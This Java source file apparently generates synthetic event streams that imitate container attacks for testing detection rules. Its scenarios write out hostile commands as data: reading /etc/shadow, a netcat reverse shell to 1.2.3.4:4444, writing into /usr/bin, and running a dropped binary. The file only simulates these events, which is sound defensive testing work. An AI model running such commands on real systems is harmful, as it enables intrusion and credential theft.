package dev.kestrel.bench.stream;

import dev.kestrel.core.event.EventType;
import java.util.List;
import java.util.SplittableRandom;

/**
 * The attacks and mistakes that trip rules, taken from the blog-system deployment: a sensitive file
 * read in a web pod, a package manager in a container, java spawning a shell, a write below
 * {@code /usr/bin}, a netcat reverse shell, a terminal shell in a container, and a dropped binary
 * executed (in BuildKit, where the user's exception silences it, and in a web pod, where it does not).
 * Each call emits one scenario, in turn, and returns how many of its events are meant to trip a rule.
 */
final class Triggers {
    private final World world;
    private final Emitter out;
    private final Activities activities;
    private final SplittableRandom random;
    private int next;

    Triggers(World world, Emitter out, Activities activities, SplittableRandom random) {
        this.world = world;
        this.out = out;
        this.activities = activities;
        this.random = random;
    }

    int next() {
        Actor web = world.inContainer(random.nextBoolean() ? 0 : 1);
        Actor webShim = shimOf(web);
        Actor java = world.inContainer(2);
        return switch (next++ % 8) {
            case 0 -> {
                activities.spawn(webShim, "cat", "/usr/bin/cat", List.of("/etc/shadow"), 0, "",
                        c -> activities.readFile(c, "/etc/shadow"));
                yield 1;
            }
            case 1 -> {
                activities.spawn(webShim, "sh", "/bin/sh", List.of("-c", "apk update"), 0, "",
                        sh -> activities.spawn(sh, "apk", "/sbin/apk", List.of("update"), 0, "",
                                apk -> activities.readFile(apk, "/etc/apk/repositories")));
                yield 1;
            }
            case 2 -> {
                activities.spawn(java, "sh", "/bin/sh", List.of("-c", "id"), 0, "",
                        sh -> out.write(sh.tid(), sh.pid(), 1, 40));
                yield 1;
            }
            case 3 -> {
                activities.spawn(webShim, "sh", "/bin/sh", List.of("-c", "cp /tmp/x /usr/bin/x"), 0, "", sh -> {
                    int fd = world.transientFd(sh.pid(), 0);
                    out.open(sh.tid(), sh.pid(), fd, "/usr/bin/x", "O_WRONLY|O_CREAT|O_TRUNC");
                    out.write(sh.tid(), sh.pid(), fd, 30_000);
                    out.close(sh.tid(), sh.pid(), fd);
                });
                yield 1;
            }
            case 4 -> {
                activities.spawn(webShim, "nc", "/usr/bin/nc", List.of("-e", "/bin/sh", "1.2.3.4", "4444"), 0, "", nc -> {
                    int fd = world.transientFd(nc.pid(), 0);
                    out.emit(EventType.SOCKET, nc, fd, "fd", fd, "domain", "AF_INET", "type", 1, "proto", 0);
                    out.emit(EventType.CONNECT, nc, 0, "fd", fd, "tuple", Emitter.tuple(Activities.WEB_IP, 51_234, "1.2.3.4", 4444));
                    out.close(nc.tid(), nc.pid(), fd);
                });
                yield 2;
            }
            case 5 -> {
                activities.spawn(shimOf(java), "bash", "/bin/bash", List.of(), 34_817, "",
                        bash -> out.write(bash.tid(), bash.pid(), 1, 20));
                yield 1;
            }
            case 6 -> {
                Actor buildkit = world.inContainer(5);
                activities.spawn(buildkit, "check", "/check", List.of(), 0, "EXE_WRITABLE|EXE_UPPER_LAYER",
                        check -> out.write(check.tid(), check.pid(), 1, 10));
                yield 1;
            }
            default -> {
                activities.spawn(webShim, "x", "/tmp/x", List.of(), 0, "EXE_WRITABLE|EXE_UPPER_LAYER",
                        x -> out.write(x.tid(), x.pid(), 1, 10));
                yield 1;
            }
        };
    }

    /** The containerd shim of {@code actor}'s container: what a {@code kubectl exec} process hangs below. */
    private Actor shimOf(Actor actor) {
        long shimPid = actor.process().ppid();
        ProcessRecord shim = world.processes.stream().filter(p -> p.pid() == shimPid).findFirst().orElseThrow();
        return new Actor(shim, Actor.Role.IDLE, actor.container(), -1, -1);
    }
}
